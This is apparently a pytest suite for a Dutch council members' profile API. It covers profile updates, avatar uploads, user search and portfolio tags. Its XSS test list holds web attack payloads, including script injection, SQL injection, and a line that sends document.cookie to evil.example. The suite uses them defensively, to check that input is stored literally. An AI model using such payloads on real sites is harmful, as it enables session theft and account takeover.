"""Profiles: a member's own profile and avatar, looking up others, and the portfolio tags."""
from __future__ import annotations

import io
import itertools
from typing import Any

from PIL import Image

from tests.api.helpers import assert_error

ME = "/api/v1/me"
_n = itertools.count(1)

XSS = [
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "<svg/onload=alert('xss')>",
    "javascript:alert(document.cookie)",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "&lt;b&gt;al ge-escaped&lt;/b&gt;",
    "</script><script>fetch('//evil.example/?c='+document.cookie)</script>",
    "Robert'); DROP TABLE users;--",
    "\u202eevil\u202c <iframe src=//evil.example>",
]


def png(width: int = 300, height: int = 200, colour: str = "orange") -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (width, height), colour).save(out, format="PNG")
    return out.getvalue()


def portfolio(staff, name: str | None = None) -> dict[str, Any]:
    response = staff.post("/api/v1/portfolios", json={"name": name or f"Portefeuille {next(_n)}"})
    assert response.status_code == 201, response.text
    return response.json()


class TestGetMe:
    def test_anonymous(self, anon) -> None:
        assert_error(anon.get(ME), 401, "unauthenticated")

    def test_happy(self, client_for, member) -> None:
        response = client_for(member).get(ME)
        assert response.status_code == 200
        me = response.json()
        assert me["id"] == member.id
        assert me["email"] == member.email
        assert me["display_name"] == "Anna de Vries"
        assert me["title"] == "raadslid"
        assert me["municipality"] == "Alkmaar"
        assert me["language"] == "nl"
        assert me["role"] == "member"
        assert me["avatar_url"] is None
        assert "password_hash" not in me


class TestUpdateMe:
    def test_anonymous(self, anon) -> None:
        assert_error(anon.patch(ME, json={"bio": "Hallo"}), 401, "unauthenticated")

    def test_bad_input(self, client_for, member) -> None:
        browser = client_for(member)
        for body, field in [
            ({"title": "koning"}, "title"),
            ({"province": "vlaanderen"}, "province"),
            ({"language": "fr"}, "language"),
            ({"bio": 42}, "bio"),
            ({"bio": "x" * 2001}, "bio"),
            ({"display_name": ""}, "display_name"),
            ({"display_name": ["Anna"]}, "display_name"),
            ({"municipality": "x" * 101}, "municipality"),
            ({"portfolio_ids": "zorg"}, "portfolio_ids"),
            ({"portfolio_ids": list(range(1, 22))}, "portfolio_ids"),
            ({"is_admin": True}, "is_admin"),
            ({"role": "admin"}, "role"),
        ]:
            assert_error(browser.patch(ME, json=body), 422, "invalid", field)
        me = browser.get(ME).json()
        assert me["role"] == "member" and me["bio"] == "" and me["title"] == "raadslid"

    def test_bad_input_portfolio_ids_element(self, client_for, member) -> None:
        error = assert_error(client_for(member).patch(ME, json={"portfolio_ids": ["zorg"]}), 422, "invalid",
                             "portfolio_ids.0")
        assert error["message"].startswith("portfolio_ids.0: ")

    def test_unknown_portfolio(self, client_for, manager, member) -> None:
        known = portfolio(client_for(manager))
        browser = client_for(member)
        response = browser.patch(ME, json={"portfolio_ids": [known["id"], 999999]})
        error = assert_error(response, 422, "invalid", "portfolio_ids")
        assert error["message"] == "Unknown portfolio id(s): 999999."
        assert browser.get(ME).json()["portfolios"] == []

    def test_happy(self, client_for, manager, member) -> None:
        staff = client_for(manager)
        zorg = portfolio(staff, f"Zorg {next(_n)}")
        wonen = portfolio(staff, f"Wonen {next(_n)}")
        browser = client_for(member)
        response = browser.patch(ME, json={
            "title": "wethouder", "municipality": "Den Helder", "province": "noord-holland",
            "bio": "Wethouder **zorg** en wonen.", "language": "en",
            "portfolio_ids": [wonen["id"], zorg["id"], zorg["id"]],
        })
        assert response.status_code == 200, response.text
        me = response.json()
        assert me["title"] == "wethouder"
        assert me["municipality"] == "Den Helder"
        assert me["province"] == "noord-holland"
        assert me["bio"] == "Wethouder **zorg** en wonen."
        assert me["language"] == "en"
        assert {p["id"] for p in me["portfolios"]} == {zorg["id"], wonen["id"]}
        assert browser.get(ME).json() == me
        # Portfolios can be emptied, title and municipality cleared with null; the rest is left alone.
        cleared = browser.patch(ME, json={"title": None, "municipality": None, "portfolio_ids": []}).json()
        assert cleared["title"] is None and cleared["municipality"] is None and cleared["portfolios"] == []
        assert cleared["bio"] == "Wethouder **zorg** en wonen." and cleared["province"] == "noord-holland"

    def test_an_empty_patch_changes_nothing(self, client_for, member) -> None:
        browser = client_for(member)
        before = browser.get(ME).json()
        response = browser.patch(ME, json={})
        assert response.status_code == 200
        assert response.json() == before


class TestXss:
    def test_display_name_and_bio_come_back_as_the_literal_string(self, client_for, member, outsider) -> None:
        author, reader = client_for(member), client_for(outsider)
        for text in XSS:
            response = author.patch(ME, json={"display_name": text, "bio": text})
            assert response.status_code == 200, response.text
            assert response.headers["content-type"] == "application/json"
            assert response.headers["x-content-type-options"] == "nosniff"
            assert (response.json()["display_name"], response.json()["bio"]) == (text, text)
            seen = reader.get(f"/api/v1/users/{member.id}")
            assert seen.headers["content-type"] == "application/json"
            assert (seen.json()["display_name"], seen.json()["bio"]) == (text, text)
            # Neither stripped nor HTML-escaped on the way in or out: escaping is the renderer's job.
            if "<" in text:
                assert "&lt;" not in seen.text, text


class TestAvatar:
    def test_anonymous(self, anon) -> None:
        response = anon.put(f"{ME}/avatar", files={"file": ("a.png", png(), "image/png")})
        assert_error(response, 401, "unauthenticated")

    def test_not_an_image(self, client_for, member) -> None:
        browser = client_for(member)
        response = browser.put(f"{ME}/avatar", files={"file": ("a.png", b"<html><script>x</script>", "image/png")})
        assert_error(response, 422, "invalid", "file")
        assert browser.get(ME).json()["avatar_url"] is None

    def test_wrong_image_format(self, client_for, member) -> None:
        out = io.BytesIO()
        Image.new("RGB", (20, 20)).save(out, format="BMP")
        response = client_for(member).put(f"{ME}/avatar", files={"file": ("a.bmp", out.getvalue(), "image/bmp")})
        error = assert_error(response, 422, "invalid", "file")
        assert error["message"] == "Upload a PNG, JPEG, GIF or WebP image."

    def test_too_large(self, client_for, member, settings) -> None:
        data = png() + b"\0" * settings.avatar_max_bytes
        response = client_for(member).put(f"{ME}/avatar", files={"file": ("a.png", data, "image/png")})
        assert_error(response, 422, "invalid", "file")

    def test_missing_file(self, client_for, member) -> None:
        response = client_for(member).put(f"{ME}/avatar", files={"other": ("a.png", png(), "image/png")})
        assert_error(response, 422, "invalid", "file")

    def test_happy_stored_as_a_square_png(self, client_for, member, outsider) -> None:
        browser = client_for(member)
        response = browser.put(f"{ME}/avatar", files={"file": ("foto.png", png(), "image/png")})
        assert response.status_code == 200, response.text
        url = response.json()["avatar_url"]
        assert url.startswith(f"/api/v1/users/{member.id}/avatar?v=")
        served = client_for(outsider).get(url)
        assert served.status_code == 200
        assert served.headers["content-type"] == "image/png"
        assert served.headers["x-content-type-options"] == "nosniff"
        with Image.open(io.BytesIO(served.content)) as image:
            assert image.format == "PNG"
            assert image.size == (256, 256)

    def test_a_jpeg_is_re_encoded_and_replacing_changes_the_url(self, client_for, member) -> None:
        browser = client_for(member)
        first = browser.put(f"{ME}/avatar", files={"file": ("a.png", png(colour="red"), "image/png")})
        out = io.BytesIO()
        Image.new("RGB", (100, 400), "blue").save(out, format="JPEG")
        second = browser.put(f"{ME}/avatar", files={"file": ("b.jpg", out.getvalue(), "image/jpeg")})
        assert first.status_code == second.status_code == 200
        assert first.json()["avatar_url"] != second.json()["avatar_url"]
        served = browser.get(second.json()["avatar_url"])
        assert served.headers["content-type"] == "image/png"
        with Image.open(io.BytesIO(served.content)) as image:
            assert image.format == "PNG" and image.size == (256, 256)
            red, green, blue = image.convert("RGB").getpixel((128, 128))
            assert red < 5 and green < 5 and blue > 250  # JPEG is lossy

    def test_no_avatar(self, client_for, member) -> None:
        assert_error(client_for(member).get(f"/api/v1/users/{member.id}/avatar"), 404, "not_found")

    def test_anonymous_cannot_fetch_one(self, client_for, member, anon) -> None:
        url = client_for(member).put(f"{ME}/avatar", files={"file": ("a.png", png(), "image/png")}).json()["avatar_url"]
        assert_error(anon.get(url), 401, "unauthenticated")


class TestGetUser:
    def test_anonymous(self, anon, member) -> None:
        assert_error(anon.get(f"/api/v1/users/{member.id}"), 401, "unauthenticated")
        assert_error(anon.get(f"/api/v1/users/by-username/{member.username}"), 401, "unauthenticated")

    def test_unknown(self, client_for, member) -> None:
        browser = client_for(member)
        assert_error(browser.get("/api/v1/users/999999"), 404, "not_found")
        assert_error(browser.get("/api/v1/users/by-username/niemand-hier"), 404, "not_found")

    def test_bad_input(self, client_for, member) -> None:
        assert_error(client_for(member).get("/api/v1/users/anna"), 422, "invalid", "user_id")

    def test_happy_by_id_and_by_username(self, client_for, member, outsider) -> None:
        browser = client_for(outsider)
        by_id = browser.get(f"/api/v1/users/{member.id}")
        assert by_id.status_code == 200
        profile = by_id.json()
        assert profile["username"] == member.username
        assert profile["display_name"] == "Anna de Vries"
        assert profile["municipality"] == "Alkmaar"
        assert "email" not in profile and "language" not in profile
        by_name = browser.get(f"/api/v1/users/by-username/{member.username.upper()}")
        assert by_name.status_code == 200
        assert by_name.json() == profile

    def test_a_deactivated_member_is_gone_except_for_staff(self, client_for, make_user, member, manager) -> None:
        gone = make_user(is_active=False)
        browser = client_for(member)
        assert_error(browser.get(f"/api/v1/users/{gone.id}"), 404, "not_found")
        assert_error(browser.get(f"/api/v1/users/by-username/{gone.username}"), 404, "not_found")
        seen = client_for(manager).get(f"/api/v1/users/{gone.id}")
        assert seen.status_code == 200
        assert seen.json()["is_active"] is False


class TestListUsers:
    def test_anonymous(self, anon) -> None:
        assert_error(anon.get("/api/v1/users"), 401, "unauthenticated")

    def test_bad_input(self, client_for, member) -> None:
        browser = client_for(member)
        assert_error(browser.get("/api/v1/users", params={"q": "x" * 101}), 422, "invalid", "q")
        assert_error(browser.get("/api/v1/users", params={"limit": 0}), 422, "invalid", "limit")
        assert_error(browser.get("/api/v1/users", params={"province": "vlaanderen"}), 422, "invalid", "province")

    def test_happy_search_by_name_username_and_municipality(self, client_for, make_user, member) -> None:
        tag = f"zoek{next(_n)}"
        by_name = make_user(display_name=f"Petra {tag.upper()}")
        by_username = make_user(username=f"{tag}-jan")
        by_place = make_user(municipality=f"{tag}dorp")
        make_user(display_name=f"Gestopt {tag}", is_active=False)
        make_user(display_name="Iemand Anders")
        browser = client_for(member)
        response = browser.get("/api/v1/users", params={"q": tag})
        assert response.status_code == 200
        assert [u["id"] for u in response.json()["items"]] == [by_name.id, by_username.id, by_place.id]
        assert response.json()["next_cursor"] is None

    def test_happy_pages(self, client_for, make_user, member) -> None:
        tag = f"pagina{next(_n)}"
        users = [make_user(display_name=f"{tag} {i}") for i in range(3)]
        browser = client_for(member)
        first = browser.get("/api/v1/users", params={"q": tag, "limit": 2}).json()
        assert [u["id"] for u in first["items"]] == [users[0].id, users[1].id]
        assert first["next_cursor"]
        second = browser.get("/api/v1/users", params={"q": tag, "limit": 2, "cursor": first["next_cursor"]}).json()
        assert [u["id"] for u in second["items"]] == [users[2].id]
        assert second["next_cursor"] is None

    def test_happy_filter_by_portfolio_and_province(self, client_for, manager, make_user, member) -> None:
        zorg = portfolio(client_for(manager))
        in_zorg = make_user(province="zeeland")
        make_user(province="zeeland")
        assert client_for(in_zorg).patch(ME, json={"portfolio_ids": [zorg["id"]]}).status_code == 200
        browser = client_for(member)
        by_portfolio = browser.get("/api/v1/users", params={"portfolio_id": zorg["id"]}).json()
        assert [u["id"] for u in by_portfolio["items"]] == [in_zorg.id]
        both = browser.get("/api/v1/users", params={"portfolio_id": zorg["id"], "province": "zeeland"}).json()
        assert [u["id"] for u in both["items"]] == [in_zorg.id]


class TestPortfolios:
    def test_anonymous(self, anon) -> None:
        assert_error(anon.get("/api/v1/portfolios"), 401, "unauthenticated")
        assert_error(anon.post("/api/v1/portfolios", json={"name": "Zorg"}), 401, "unauthenticated")

    def test_not_allowed_for_a_member(self, client_for, member) -> None:
        browser = client_for(member)
        name = f"Verboden {next(_n)}"
        assert_error(browser.post("/api/v1/portfolios", json={"name": name}), 403, "tag_portfolios_not_allowed")
        assert name not in {p["name"] for p in browser.get("/api/v1/portfolios").json()}

    def test_bad_input(self, client_for, manager) -> None:
        staff = client_for(manager)
        for name in ["", "x", "   ", "x" * 81, 7]:
            assert_error(staff.post("/api/v1/portfolios", json={"name": name}), 422, "invalid", "name")

    def test_duplicate(self, client_for, admin) -> None:
        staff = client_for(admin)
        name = f"Cultuur {next(_n)}"
        portfolio(staff, name)
        for same in (name, name.upper(), f"  {name} ", name.replace("u", "ü")):
            assert_error(staff.post("/api/v1/portfolios", json={"name": same}), 409, "portfolio_exists", "name")

    def test_happy_staff_create_and_everyone_lists(self, client_for, manager, admin, member) -> None:
        n = next(_n)
        created = client_for(manager).post("/api/v1/portfolios", json={"name": f"Ruimtelijke Ordening {n}"})
        assert created.status_code == 201
        assert created.json()["slug"] == f"ruimtelijke-ordening-{n}"
        by_admin = portfolio(client_for(admin), f"Armoede {n}")
        listed = client_for(member).get("/api/v1/portfolios")
        assert listed.status_code == 200
        ids = [p["id"] for p in listed.json()]
        assert created.json()["id"] in ids and by_admin["id"] in ids
        names = [p["name"] for p in listed.json()]
        assert names == sorted(names)

    def test_happy_the_longest_name(self, client_for, manager) -> None:
        name = f"{next(_n)} " + "portefeuille " * 7
        response = client_for(manager).post("/api/v1/portfolios", json={"name": name[:80]})
        assert response.status_code == 201, response.text
        assert response.json()["name"] == name[:80].strip()
